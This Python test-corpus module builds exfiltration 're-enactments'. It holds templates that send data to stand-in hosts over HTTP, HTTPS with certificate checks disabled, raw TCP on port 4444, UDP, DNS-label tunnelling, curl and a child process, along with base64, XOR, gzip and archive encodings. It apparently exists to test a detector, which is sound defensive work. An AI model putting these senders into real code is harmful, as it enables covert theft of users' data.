"""How the re-enactments of this half send something: a function for each channel and encoding."""

from __future__ import annotations

from tests.corpus.guard import indented
from tests.corpus.recipe import Encoding

HTTP = """
def _send(data):
    import urllib.request
    try:
        urllib.request.urlopen("http://203.0.113.7/collect", data=data, timeout=5).read()
    except OSError:
        pass
"""
HTTP_QUERY = """
def _send(data):
    import http.client
    try:
        link = http.client.HTTPConnection("198.51.100.23", 8080, timeout=5)
        link.request("GET", "/pixel.gif?v=" + data.decode("latin-1"))
        link.getresponse().read()
    except (OSError, http.client.HTTPException):
        pass
"""
HTTPS = """
def _send(data):
    import ssl, urllib.request
    request = urllib.request.Request("https://collect.reenact.test/v1/items", data=data)
    try:
        urllib.request.urlopen(request, timeout=5, context=ssl._create_unverified_context()).read()
    except OSError:
        pass
"""
HTTPS_SOCKET = """
def _send(data):
    import ssl
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    try:
        with socket.create_connection(("192.0.2.44", 443), timeout=5) as plain:
            with context.wrap_socket(plain, server_hostname="drop.reenact.invalid") as link:
                link.sendall(b"POST / HTTP/1.1\\r\\nHost: drop.reenact.invalid\\r\\n"
                             b"Content-Length: %d\\r\\n\\r\\n" % len(data) + data)
                link.recv(64)
    except OSError:
        pass
"""
TCP = """
def _send(data):
    try:
        with socket.create_connection(("198.51.100.23", 4444), timeout=5) as link:
            link.sendall(data)
            link.shutdown(socket.SHUT_WR)
            link.recv(64)
    except OSError:
        pass
"""
TCP_PIECES = """
def _send(data):
    for start in range(0, len(data), 12):
        try:
            with socket.create_connection(("192.0.2.44", 9001), timeout=5) as link:
                link.sendall(data[start:start + 12])
        except OSError:
            return
"""
UDP = """
def _send(data):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for start in range(0, len(data), 500):
        link.sendto(data[start:start + 500], ("203.0.113.9", 5140))
    link.close()
"""
DNS = """
def _send(data):
    text = data.decode("latin-1").lower().rstrip("=")
    for number, start in enumerate(range(0, min(len(text), 1200), 50)):
        try:
            socket.gethostbyname(f"{text[start:start + 50]}.{number}.x.reenact.test")
        except OSError:
            pass
"""
CURL = """
def _send(data):
    try:
        subprocess.run(
            ["curl", "-s", "-m", "5", "--data-binary", "@-", "http://203.0.113.7/upload"],
            input=data, capture_output=True, timeout=10,
        )
    except (OSError, subprocess.SubprocessError):
        pass
"""
CHILD = '''
def _send(data):
    import sys
    code = """
import sys, urllib.request
try:
    urllib.request.urlopen("http://198.51.100.23/in", data=sys.stdin.buffer.read(), timeout=5).read()
except OSError:
    pass
"""
    try:
        subprocess.run([sys.executable or "/usr/bin/python3", "-I", "-S", "-c", code], input=data,
                       capture_output=True, timeout=10)
    except (OSError, subprocess.SubprocessError):
        pass
'''

_WRAPPED = {
    Encoding.PLAIN: "return data",
    Encoding.PIECES: "return data",
    Encoding.HEX: "return data.hex().encode()",
    Encoding.LABELS: "return data.hex().encode()",
    Encoding.BASE64: "import base64\nreturn base64.b64encode(data)",
    Encoding.BASE32: "import base64\nreturn base64.b32encode(data)",
    Encoding.URL: "import urllib.parse\nreturn urllib.parse.quote_from_bytes(data, safe='').encode()",
    Encoding.JSON: "import json\nreturn json.dumps({'d': data.decode('latin-1')}).encode()",
    Encoding.GZIP: "import gzip\nreturn gzip.compress(data)",
    Encoding.ZLIB: "import zlib\nreturn zlib.compress(data)",
    Encoding.XOR: "return bytes(byte ^ 0x5A for byte in data)",
    Encoding.REVERSED: "return data[::-1]",
    Encoding.ARCHIVE: (
        "import io, zipfile\nbox = io.BytesIO()\n"
        "with zipfile.ZipFile(box, 'w', zipfile.ZIP_DEFLATED) as archive:\n"
        "    archive.writestr('data.bin', data)\nreturn box.getvalue()"
    ),
}


def sending(sender: str, encoding: Encoding) -> str:
    """Code that defines `_send(data)` and `_wrap(data)`: bytes in, bytes out."""
    return f"{sender}\ndef _wrap(data):\n{indented(_WRAPPED[encoding])}\n"
